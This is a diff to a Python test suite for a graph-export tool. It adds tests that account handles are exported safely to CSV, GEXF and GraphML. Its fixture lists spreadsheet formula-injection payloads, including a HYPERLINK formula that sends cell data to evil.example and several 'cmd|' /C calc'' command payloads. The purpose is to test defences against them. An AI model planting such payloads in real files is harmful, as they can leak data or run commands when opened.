@@ -42,7 +42,7 @@ def test_xml_formats_round_trip_through_networkx(toy, tmp_path, suffix):
     assert {(s, t): d["weight"] for s, t, d in back.edges(data=True)} == {
         ("csv:a", "csv:b"): 2.0, ("csv:b", "csv:c"): 1.0, ("csv:c", "csv:a"): 1.0, ("csv:d", "csv:a"): 1.0}
     assert back.nodes["csv:a"]["handle"] == 'at&t <"ceo">'
-    assert back.nodes["csv:b"]["handle"] == "bob"  # \x01 cannot be written in XML 1.0: dropped
+    assert back.nodes["csv:b"]["handle"] == "bob\\x01"  # \x01 cannot be written in XML 1.0: shown as \x01
     assert "handle" not in back.nodes["csv:c"]  # missing handle: no value rather than "None"
     assert [back.nodes[a]["community"] for a in ["csv:a", "csv:b", "csv:c", "csv:d"]] == [0, 0, 1, 1]
     if suffix == "gexf":
@@ -118,3 +118,65 @@ def test_tiny_store_export_counts(store, tmp_path):
     nodes_path, edges_path = export.export(store, tmp_path / "tiny.parquet")
     assert len(pd.read_parquet(nodes_path)) == 19
     assert pd.read_parquet(edges_path)["weight"].sum() == 37  # 39 interactions less 2 self-interactions
+
+
+# -- issue 15.7: names from other people's data stay values, never formulas, never merged nodes ----------
+
+HOSTILE_HANDLES = [
+    "carriage\rreturn", "line\nfeed", "both\r\nends", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+    "\uff1d1+1", 'quote"inside', "comma,inside", "plain", "ünïcødé", "", "x" * 300, "trailing\r",
+]
+
+
+@pytest.fixture
+def hostile(store):
+    ids = [f"csv:h{i:02d}" for i in range(len(HOSTILE_HANDLES))]
+    rows = pd.DataFrame({"source_id": ids, "target_id": ids[1:] + ids[:1], "kind": "reply"})
+    graphs.insert_interactions(store, rows)
+    for account_id, handle in zip(ids, HOSTILE_HANDLES):
+        store.con.execute("INSERT INTO accounts (account_id, platform, handle) VALUES (?, 'csv', ?) "
+                          "ON CONFLICT (account_id) DO UPDATE SET handle = excluded.handle", [account_id, handle])
+    return store
+
+
+def test_csv_keeps_one_row_per_account_and_writes_no_formula(hostile, tmp_path):
+    import csv
+
+    nodes_path, edges_path = export.export(hostile, tmp_path / "g.csv")
+    with nodes_path.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == 1 + 17  # was 20 data rows: a bare CR ended the row early
+    assert len(pd.read_csv(nodes_path, keep_default_na=False)) == 17
+    header, *data = rows
+    labels = dict((row[0], row[header.index("Label")]) for row in data)
+    expected = {f"csv:h{i:02d}": h for i, h in enumerate(HOSTILE_HANDLES)}
+    for account_id, handle in expected.items():
+        shown = labels[account_id]
+        if handle[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
+            assert shown == "'" + handle  # text in a spreadsheet, the apostrophe says so
+        else:
+            assert shown == handle  # every other value comes back exactly
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert nodes_path.read_bytes().count(b"\r\n") >= 18  # RFC 4180 line ends
+    with edges_path.open(newline="", encoding="utf-8") as handle:
+        assert len(list(csv.reader(handle))) == 1 + 17
+
+
+def test_gexf_and_graphml_ids_with_control_characters_stay_distinct(store, tmp_path):
+    ids = ["csv:a", "csv:a\x01", "csv:a\x02", "csv:a\\x01", "csv:a\x1f\x0b", "csv:\\", "csv:\ufffe"]
+    rows = pd.DataFrame({"source_id": ids, "target_id": ids[1:] + ids[:1], "kind": "mention"})
+    graphs.insert_interactions(store, rows)
+    g = graphs.graph(store)
+    for suffix in ("gexf", "graphml"):
+        [written] = export.export(store, tmp_path / f"g.{suffix}")
+        back = nx.read_gexf(written) if suffix == "gexf" else nx.read_graphml(written)
+        assert back.number_of_nodes() == 7  # control characters were stripped: 'csv:a\x01' merged into 'csv:a'
+        assert sorted(export.unescape_id(n) for n in back.nodes) == sorted(ids)
+        assert sorted((export.unescape_id(s), export.unescape_id(t)) for s, t in back.edges) == sorted(
+            zip(ids, ids[1:] + ids[:1]))
+        assert sorted(export.unescape_id(back.nodes[n]["account_id"]) for n in back.nodes) == sorted(ids)
+    back = ig.Graph.Read_GraphML(str(tmp_path / "g.graphml"))
+    assert back.vcount() == g.vcount() == 7 and back.ecount() == 7
